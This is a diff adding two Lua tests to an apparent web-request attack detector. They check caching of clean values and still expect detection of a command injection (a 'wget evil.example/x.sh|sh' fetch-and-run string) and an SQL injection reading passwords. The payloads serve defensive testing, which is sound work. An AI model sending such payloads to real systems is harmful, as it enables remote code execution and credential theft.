@@ -282,6 +282,33 @@ test("a value found clean is remembered, an attack never is", function()
   truthy(D.inspect(r), "second time: still refused")
 end)
 
+test("a value found clean for some detectors is read again by all of them later in the request", function()
+  -- the Referer's path goes to four detectors (not cmdi); the same text as the body goes to all
+  local v = "/x;wget evil.example/x.sh|sh"
+  falsy(D.check(v, nil, { "xss", "sqli", "traversal", "injection" }), "clean for the Referer's detectors")
+  local f = D.inspect(req({ method = "POST", headers = { referer = { [0] = "https://shop.example" .. v },
+    ["content-type"] = { [0] = "text/plain" } }, body = v }))
+  eq(f and f.reason, "cmdi_detected", "found in the body")
+  eq(f and f.location, "body", "where")
+end)
+
+test("a value repeated in a body is read once, and an attack after it is still found", function()
+  local calls, sqli = 0, D.sqli
+  D.sqli = function(v) calls = calls + 1 return sqli(v) end
+  local items = {}
+  for i = 1, 50 do items[i] = '{"note":"see the page (then come back).","n":"' .. i .. '"}' end
+  local body = "[" .. table.concat(items, ",") .. "]"
+  local ok, f = pcall(D.inspect, req({ method = "POST", headers = { ["content-type"] = { [0] = "application/json" } }, body = body }))
+  local clean_calls = calls
+  local ok2, f2 = pcall(D.inspect, req({ method = "POST", headers = { ["content-type"] = { [0] = "application/json" } },
+    body = "[" .. table.concat(items, ",") .. ',{"note":"1 union select password from users"}]' }))
+  D.sqli = sqli
+  truthy(ok and ok2, "no error")
+  falsy(f, "the ordinary body passes")
+  truthy(clean_calls < 10, "the repeated note is read once, not 50 times (" .. clean_calls .. " reads)")
+  eq(f2 and f2.reason, "sqli_detected", "the attack after the repeats")
+end)
+
 test("event fields are percent-encoded without blanks, controls or '%'", function()
   eq(D.log_escape("a b%\n\"<", 64), "a%20b%25%0A\"<", "escaped")
   eq(D.log_escape("", 64), "-", "empty")
